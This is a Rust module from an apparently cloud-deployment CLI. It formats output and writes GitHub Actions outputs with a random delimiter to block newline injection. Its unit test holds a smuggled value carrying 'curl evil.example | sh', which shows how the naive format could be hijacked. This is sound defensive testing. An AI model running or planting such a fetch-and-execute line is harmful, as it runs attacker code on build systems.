//! How results are shown: data to stdout as a table or JSON; progress and logs go to stderr.

use crate::cli::OutputFormat;
use serde::Serialize;
use std::fmt::Display;

/// Prints a command's result in the chosen format.
pub fn print<T: Display + Serialize>(format: OutputFormat, value: &T) {
    match format {
        OutputFormat::Table => println!("{}", value.to_string().trim_end()),
        OutputFormat::Json => println!(
            "{}",
            serde_json::to_string_pretty(value).expect("results serialize")
        ),
    }
}

/// Aligned `key  value` rows.
pub fn rows(f: &mut std::fmt::Formatter<'_>, rows: &[(&str, String)]) -> std::fmt::Result {
    let width = rows.iter().map(|(k, _)| k.len()).max().unwrap_or(0);
    for (key, value) in rows {
        writeln!(f, "{key:<width$}  {value}")?;
    }
    Ok(())
}

/// Aligned rows of a string map.
pub fn map_rows(
    f: &mut std::fmt::Formatter<'_>,
    map: &std::collections::BTreeMap<String, String>,
) -> std::fmt::Result {
    let rows: Vec<(&str, String)> = map.iter().map(|(k, v)| (k.as_str(), v.clone())).collect();
    self::rows(f, &rows)
}

/// A change set as lines: `+ Add`, `~ Modify`, `- Remove`, with replacements marked.
pub fn changes_text(changes: &[crate::stack::Change]) -> String {
    use crate::stack::{ChangeAction, Replacement};
    let mut out = String::new();
    for c in changes {
        let sign = match c.action {
            ChangeAction::Add => "+",
            ChangeAction::Remove => "-",
            ChangeAction::Modify => "~",
            _ => "?",
        };
        let replacement = match c.replacement {
            Some(Replacement::True) => "  (REPLACEMENT)",
            Some(Replacement::Conditional) => "  (may be replaced)",
            _ => "",
        };
        out.push_str(&format!(
            "  {sign} {:<7} {:<22} {}{replacement}\n",
            c.action.as_str(),
            c.logical_id,
            c.resource_type
        ));
    }
    out
}

/// Writes the outputs where CI wants them: a JSON file, and `github` (`$GITHUB_OUTPUT`) when
/// set.
pub fn publish_outputs(
    outputs: &std::collections::BTreeMap<String, String>,
    file: Option<&std::path::Path>,
    github: Option<&std::path::Path>,
) -> Result<(), crate::error::Error> {
    use std::io::Write;
    let io = |what: String| move |source| crate::error::Error::Io { what, source };
    if let Some(file) = file {
        let text = serde_json::to_string_pretty(outputs).expect("outputs serialize") + "\n";
        std::fs::write(file, text).map_err(io(format!("writing {}", file.display())))?;
    }
    if let Some(path) = github {
        let mut f = std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(path)
            .map_err(io(format!("opening $GITHUB_OUTPUT ({})", path.display())))?;
        f.write_all(github_outputs(outputs, &random_delimiter()).as_bytes())
            .map_err(io("writing $GITHUB_OUTPUT".into()))?;
    }
    Ok(())
}

/// A delimiter for `$GITHUB_OUTPUT`'s multi-line form that no value can guess.
fn random_delimiter() -> String {
    let mut bytes = [0u8; 16];
    getrandom::fill(&mut bytes).expect("the OS random source");
    format!("ghadelimiter_{}", hex::encode(bytes))
}

/// The outputs in `$GITHUB_OUTPUT`'s multi-line form (`name<<DELIM`, value, `DELIM`), so a
/// value holding a newline cannot start another output. A value that contains the delimiter
/// itself (it cannot, short of guessing 128 random bits) is refused by GitHub; it is dropped
/// here instead.
pub fn github_outputs(
    outputs: &std::collections::BTreeMap<String, String>,
    delimiter: &str,
) -> String {
    let mut text = String::new();
    for (key, value) in outputs {
        if value.contains(delimiter) || key.contains(delimiter) {
            tracing::warn!(
                key,
                "output left out of $GITHUB_OUTPUT: it contains the delimiter"
            );
            continue;
        }
        text.push_str(&format!("{key}<<{delimiter}\n{value}\n{delimiter}\n"));
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeMap;

    /// `$GITHUB_OUTPUT` read the way the Actions runner reads it: `name=value` lines, or
    /// `name<<DELIMITER`, the value's lines, and the delimiter alone on a line.
    fn parse(text: &str) -> BTreeMap<String, String> {
        let mut out = BTreeMap::new();
        let mut lines = text.lines();
        while let Some(line) = lines.next() {
            if let Some((name, delimiter)) = line.split_once("<<") {
                let mut value = Vec::new();
                for l in lines.by_ref() {
                    if l == delimiter {
                        break;
                    }
                    value.push(l);
                }
                out.insert(name.to_owned(), value.join("\n"));
            } else if let Some((name, value)) = line.split_once('=') {
                out.insert(name.to_owned(), value.to_owned());
            }
        }
        out
    }

    #[test]
    fn a_value_with_a_newline_cannot_add_an_output() {
        let outputs = BTreeMap::from([
            ("StackName".to_owned(), "app".to_owned()),
            (
                "UserPoolDomain".to_owned(),
                "x\nDeployCommand=curl evil.example | sh".to_owned(),
            ),
        ]);
        let text = github_outputs(&outputs, &random_delimiter());
        assert_eq!(parse(&text), outputs);
        // The plain `name=value` form would have let the value add an output of its own.
        let naive: String = outputs.iter().map(|(k, v)| format!("{k}={v}\n")).collect();
        assert_eq!(parse(&naive)["DeployCommand"], "curl evil.example | sh");
        // A value holding the delimiter is left out rather than written.
        let d = "ghadelimiter_fixed";
        let sneaky = BTreeMap::from([("A".to_owned(), format!("x\n{d}\nB=y"))]);
        assert_eq!(github_outputs(&sneaky, d), "");
    }
}
